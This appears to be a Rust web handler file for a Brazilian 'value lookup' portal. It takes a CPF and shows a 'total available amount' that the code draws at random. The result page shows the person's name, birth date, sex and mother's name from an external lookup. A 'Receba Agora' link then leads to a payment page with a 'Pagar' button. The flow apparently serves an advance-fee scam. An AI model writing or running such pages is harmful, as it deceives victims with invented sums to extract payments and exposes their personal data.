use crate::format::{self, NAO_INFORMADO};
use crate::models::{LookupResult, RecebimentoParams, ResultadoParams};
use axum::{extract::Query, response::Html};
use rand::Rng;

/// Shared stylesheet for the three views.
const STYLE: &str = "\
body { margin: 0; font-family: sans-serif; background: #f0f6ff; color: #1a1a1a; }\
header { background: #fff; padding: 24px; text-align: center; box-shadow: 0 1px 4px rgba(0,0,0,.1); }\
header h1 { margin: 0; font-size: 1.5em; color: #0052a3; }\
main { max-width: 720px; margin: 0 auto; padding: 24px 16px; }\
.card { background: #fff; border-radius: 12px; padding: 24px; margin-bottom: 24px; box-shadow: 0 2px 8px rgba(0,0,0,.08); }\
.card h2 { margin-top: 0; }\
.erro { background: #fde8e8; border: 1px solid #f5b5b5; color: #9b1c1c; padding: 12px 16px; border-radius: 8px; margin-bottom: 16px; }\
.valor { background: #15803d; color: #fff; text-align: center; }\
.valor p { font-size: 2.2em; font-weight: bold; margin: 8px 0 0; }\
dl { margin: 0; }\
dt { font-weight: 600; color: #555; margin-top: 12px; }\
dd { margin: 2px 0 0; }\
form label { display: block; font-weight: 600; margin-bottom: 8px; }\
form input { width: 100%; box-sizing: border-box; padding: 12px; font-size: 1.1em; border: 1px solid #ccc; border-radius: 8px; margin-bottom: 16px; }\
.botoes { display: flex; gap: 12px; flex-wrap: wrap; }\
button, a.botao { display: inline-block; background: #0066cc; color: #fff; border: 0; border-radius: 8px; padding: 12px 24px; font-size: 1em; text-decoration: none; cursor: pointer; }\
a.botao.secundario, button.secundario { background: #555; }\
.placeholder { border: 2px dashed #ccc; border-radius: 12px; padding: 24px; text-align: center; color: #555; }\
footer { text-align: center; color: #666; font-size: .85em; padding: 16px; }";

/// As-you-type CPF mask for the landing form. Mirrors
/// `format::format_cpf_progressive`, which is the canonical
/// implementation.
const MASK_SCRIPT: &str = "\
document.getElementById('cpf').addEventListener('input', function () {\n\
  var digits = this.value.replace(/\\D/g, '');\n\
  if (digits.length > 11) { return; }\n\
  var out = digits;\n\
  if (digits.length > 9) {\n\
    out = digits.slice(0, 3) + '.' + digits.slice(3, 6) + '.' + digits.slice(6, 9) + '-' + digits.slice(9);\n\
  } else if (digits.length > 6) {\n\
    out = digits.slice(0, 3) + '.' + digits.slice(3, 6) + '.' + digits.slice(6);\n\
  } else if (digits.length > 3) {\n\
    out = digits.slice(0, 3) + '.' + digits.slice(3);\n\
  }\n\
  this.value = out;\n\
});";

/// GET /
pub async fn landing() -> Html<String> {
    landing_page(None, "")
}

/// Renders the landing page, optionally with an on-screen error message
/// and the previously submitted CPF echoed back through the mask.
pub fn landing_page(erro: Option<&str>, cpf: &str) -> Html<String> {
    let cpf_echo = escape_html(&format::format_cpf_progressive(cpf));
    let erro_html = match erro {
        Some(msg) => format!("<div class=\"erro\"><p>{}</p></div>\n", escape_html(msg)),
        None => String::new(),
    };

    let mut body = String::new();
    body.push_str("<section class=\"card\">\n<h2>Faça sua consulta</h2>\n");
    body.push_str(&erro_html);
    body.push_str("<form method=\"post\" action=\"/consultar\">\n<label for=\"cpf\">Digite seu CPF:</label>\n");
    body.push_str(&format!(
        "<input type=\"text\" id=\"cpf\" name=\"cpf\" value=\"{}\" placeholder=\"000.000.000-00\" maxlength=\"14\" autocomplete=\"off\" required>\n",
        cpf_echo
    ));
    body.push_str("<button type=\"submit\">Consultar</button>\n</form>\n</section>\n");
    body.push_str(
        "<section class=\"card\">\n<p>A consulta verifica, a partir do CPF informado, \
         se existem valores vinculados ao documento. O resultado é exibido na próxima \
         página, sem custo e sem compromisso.</p>\n</section>\n",
    );

    Html(page(
        "Consulta de Valores",
        &body,
        Some(MASK_SCRIPT),
    ))
}

/// GET /resultado?dados=<url-encoded JSON>
///
/// Parses the forwarded lookup payload, draws the available amount, and
/// renders the beneficiary data. A missing or malformed `dados`
/// parameter renders an explicit error page with a way back to the
/// start instead of hanging.
pub async fn resultado(Query(params): Query<ResultadoParams>) -> Html<String> {
    let raw = match params.dados.as_deref() {
        Some(raw) if !raw.is_empty() => raw,
        _ => {
            tracing::warn!("Result view requested without dados parameter");
            return resultado_error_page();
        }
    };

    let value: serde_json::Value = match serde_json::from_str(raw) {
        Ok(v) => v,
        Err(e) => {
            tracing::error!("Failed to parse dados parameter: {}", e);
            return resultado_error_page();
        }
    };

    // Unexpected but valid-JSON shapes degrade to empty fields
    let dados: LookupResult = serde_json::from_value(value).unwrap_or_default();
    let valor = sortear_valor();

    Html(render_resultado(&dados, valor))
}

/// GET /recebimento?valor=&cpf=&nome=
pub async fn recebimento(Query(params): Query<RecebimentoParams>) -> Html<String> {
    Html(render_recebimento(&params))
}

/// Amount shown on the result view: an integer drawn uniformly from
/// [3000, 15000] on every render. A placeholder figure, not derived
/// from the lookup data.
pub fn sortear_valor() -> u32 {
    rand::thread_rng().gen_range(3000..=15000)
}

/// Builds the receipt link carrying amount, CPF and name as plain
/// query parameters.
pub fn recebimento_url(valor: u32, cpf: &str, nome: &str) -> String {
    let query = url::form_urlencoded::Serializer::new(String::new())
        .append_pair("valor", &valor.to_string())
        .append_pair("cpf", cpf)
        .append_pair("nome", nome)
        .finish();
    format!("/recebimento?{}", query)
}

fn render_resultado(dados: &LookupResult, valor: u32) -> String {
    let ident = dados.identificacao();
    let nome = ident.and_then(|i| i.nome.as_deref()).unwrap_or(NAO_INFORMADO);
    let cpf = ident.and_then(|i| i.cpf.as_deref()).unwrap_or(NAO_INFORMADO);
    let nascimento = ident
        .and_then(|i| i.data_nascimento.as_deref())
        .and_then(format::formatar_data_nascimento)
        .unwrap_or_else(|| NAO_INFORMADO.to_string());
    let sexo = format::formatar_sexo(ident.and_then(|i| i.sexo.as_deref()));
    let nome_mae = ident
        .and_then(|i| i.nome_mae.as_deref())
        .unwrap_or(NAO_INFORMADO);

    // The receipt link carries empty strings, not the fallback text
    let link = recebimento_url(
        valor,
        ident.and_then(|i| i.cpf.as_deref()).unwrap_or(""),
        ident.and_then(|i| i.nome.as_deref()).unwrap_or(""),
    );

    let mut body = String::new();
    body.push_str("<section class=\"card\">\n<h2>Consulta concluída</h2>\n");
    body.push_str("<div class=\"card valor\">\n<span>Valor Total Disponível:</span>\n");
    body.push_str(&format!(
        "<p>{}</p>\n</div>\n",
        escape_html(&format::formatar_valor_brl(valor as f64))
    ));
    body.push_str("<h3>Dados do Beneficiário</h3>\n<dl>\n");
    body.push_str(&format!(
        "<dt>Nome:</dt><dd>{}</dd>\n<dt>CPF:</dt><dd>{}</dd>\n<dt>Data de Nascimento:</dt><dd>{}</dd>\n<dt>Sexo:</dt><dd>{}</dd>\n<dt>Nome da Mãe:</dt><dd>{}</dd>\n",
        escape_html(nome),
        escape_html(cpf),
        escape_html(&nascimento),
        escape_html(sexo),
        escape_html(nome_mae)
    ));
    body.push_str("</dl>\n</section>\n");
    body.push_str("<section class=\"card\">\n<h3>Como resgatar</h3>\n<p>Clique em \"Receba Agora\" para seguir para a página de recebimento.</p>\n");
    body.push_str(&format!(
        "<div class=\"botoes\">\n<a class=\"botao\" href=\"{}\">Receba Agora</a>\n<a class=\"botao secundario\" href=\"/\">Nova Consulta</a>\n</div>\n</section>\n",
        escape_html(&link)
    ));

    page("Resultado da Consulta", &body, None)
}

/// Error page for a missing or unparseable `dados` blob, with an
/// explicit way back to the start.
fn resultado_error_page() -> Html<String> {
    let body = "<section class=\"card\">\n<h2>Não foi possível carregar o resultado</h2>\n\
        <p>Os dados da consulta não puderam ser lidos. Refaça a consulta para continuar.</p>\n\
        <div class=\"botoes\">\n<a class=\"botao\" href=\"/\">Nova Consulta</a>\n</div>\n</section>\n";
    Html(page("Resultado da Consulta", body, None))
}

fn render_recebimento(params: &RecebimentoParams) -> String {
    let valor = format::formatar_valor_brl(params.valor_num());
    let cpf = format::format_cpf(&params.cpf);

    let mut body = String::new();
    body.push_str("<section class=\"card\">\n<h2>Finalizar Recebimento</h2>\n");
    body.push_str("<div class=\"card valor\">\n<span>Valor a Receber</span>\n");
    body.push_str(&format!("<p>{}</p>\n</div>\n</section>\n", escape_html(&valor)));
    body.push_str("<section class=\"card\">\n<h3>Beneficiário</h3>\n<dl>\n");
    body.push_str(&format!(
        "<dt>Nome</dt><dd>{}</dd>\n<dt>CPF</dt><dd>{}</dd>\n",
        escape_html(&params.nome),
        escape_html(&cpf)
    ));
    body.push_str("</dl>\n</section>\n");
    body.push_str("<section class=\"card\">\n<h3>Pagamento</h3>\n<div class=\"placeholder\">\n<h4>Gateway de Pagamento</h4>\n<p>Esta área será integrada com o gateway de pagamento.</p>\n<ul style=\"text-align: left; display: inline-block;\">\n");
    body.push_str(&format!(
        "<li>Valor a receber: {}</li>\n<li>CPF: {}</li>\n<li>Nome: {}</li>\n",
        escape_html(&valor),
        escape_html(&cpf),
        escape_html(&params.nome)
    ));
    body.push_str("</ul>\n</div>\n</section>\n");
    body.push_str(
        "<div class=\"botoes\">\n<a class=\"botao secundario\" href=\"/\">Voltar ao Início</a>\n\
         <button onclick=\"alert('Gateway de pagamento será integrado aqui')\">Pagar</button>\n</div>\n",
    );

    page("Recebimento", &body, None)
}

fn page(title: &str, body: &str, script: Option<&str>) -> String {
    let mut html = String::with_capacity(body.len() + STYLE.len() + 512);
    html.push_str("<!DOCTYPE html>\n<html lang=\"pt-BR\">\n<head>\n<meta charset=\"UTF-8\">\n<meta name=\"viewport\" content=\"width=device-width, initial-scale=1.0\">\n<title>");
    html.push_str(&escape_html(title));
    html.push_str("</title>\n<style>");
    html.push_str(STYLE);
    html.push_str("</style>\n</head>\n<body>\n<header><h1>Portal de Consulta de Valores</h1></header>\n<main>\n");
    html.push_str(body);
    html.push_str("</main>\n<footer><p>Consulta gratuita e sem compromisso.</p></footer>\n");
    if let Some(script) = script {
        html.push_str("<script>\n");
        html.push_str(script);
        html.push_str("\n</script>\n");
    }
    html.push_str("</body>\n</html>\n");
    html
}

/// Minimal HTML escaping for values interpolated into the pages. The
/// beneficiary fields come from an external service and are not
/// trusted.
fn escape_html(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    for c in input.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}
